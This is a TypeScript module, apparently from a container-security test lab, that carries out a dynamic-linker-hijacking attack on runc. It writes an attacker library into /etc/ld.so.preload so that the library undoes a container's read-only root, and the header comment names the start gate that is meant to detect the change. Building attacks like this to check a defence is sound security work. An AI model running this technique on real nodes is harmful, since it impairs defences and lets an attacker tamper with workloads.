/**
 * Attack (T1574.006 Hijack Execution Flow: Dynamic Linker Hijacking, for
 * T1562.001 Impair Defenses): root on the node names a library of its own
 * in /etc/ld.so.preload. runc is a dynamic program, so the loader maps the
 * library into every runc the shim starts, and its constructor runs before
 * runc's code: on `create` of a workload container whose root the start
 * gate made read-only, it stacks a writable overlay of the attacker's on
 * that root and clears `root.readonly` (native/runc-preload.c, running the
 * same undoing as the runc-replace technique's runc). runc's own file is
 * untouched and still matches the gate's pin. Root then writes into that
 * upperdir from the node. On a node without the gate the root already has
 * an upperdir, and the write lands the same way.
 *
 * What must catch it: the start gate, which records the preload list when
 * its daemon starts, as it pins runc, and refuses a protected container
 * once the list differs (lab/gates/pins.ts, LOADER_PRELOAD).
 */
import { copyFile } from 'node:fs/promises';
import { join } from 'node:path';
import { LOADER_PRELOAD } from '../../gates/pins.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import { compileSharedLibrary } from '../../node/native.ts';
import { ungatedWriteAfter, writeNodeText } from './defence-tamper.ts';
import { undoReadOnlyRoot } from './runc-replace.ts';

/** The attacker's library: its constructor runs the undo script in `runc create`. */
export const SOURCE = join(import.meta.dirname, 'native', 'runc-preload.c');
/** Where the attacker keeps its library and the script it runs (native/runc-preload.c names the script). */
const WORK = '/var/lib/containerd/attacker-preload';
const LIBRARY = `${WORK}/libpreload.so`;

/** The script the library runs in runc create, with the bundle as $1. */
export const UNDO_SCRIPT = `bundle=$1\n${undoReadOnlyRoot(WORK)}\n`;

/** Puts the script the library runs (native/runc-preload.c names it) on the node. */
export async function placeUndoScript(node: LabNodeHandle): Promise<void> {
  await node.run(['mkdir', '-p', WORK]);
  await writeNodeText(node, `${WORK}/undo-read-only-root.sh`, UNDO_SCRIPT);
}

/** Puts the library and the script it runs on the node; the library's path there. */
export async function placeRuncLibrary(node: LabNodeHandle): Promise<string> {
  const copy = join(node.shareDir, 'libpreload.so');
  await copyFile(await compileSharedLibrary(SOURCE, 'runc-preload'), copy);
  await placeUndoScript(node);
  await node.run(['cp', copy, LIBRARY]);
  return LIBRARY;
}

/** Puts the library and its script on the node and names the library in the preload list; evidence. */
export async function preloadIntoRunc(node: LabNodeHandle): Promise<Record<string, unknown>> {
  await placeRuncLibrary(node);
  const before = await node.exec.run(['cat', LOADER_PRELOAD]);
  await writeNodeText(node, LOADER_PRELOAD, `${LIBRARY}\n`);
  // The loader maps it into a new dynamic program from now on; a failed load would print an error here.
  const probe = await node.run(['sh', '-c', 'true']);
  return {
    preloadList: LOADER_PRELOAD,
    listBefore: before.exitCode === 0 ? before.stdout.toString() : null,
    library: LIBRARY,
    loaderErrors: probe.stderr.toString().trim() || null,
  };
}

export const runcPreload = ungatedWriteAfter('runc-preload', async ({ node }) => ({
  evidence: await preloadIntoRunc(node),
  what: `${LOADER_PRELOAD} names the attacker's library, which runs inside runc`,
}));
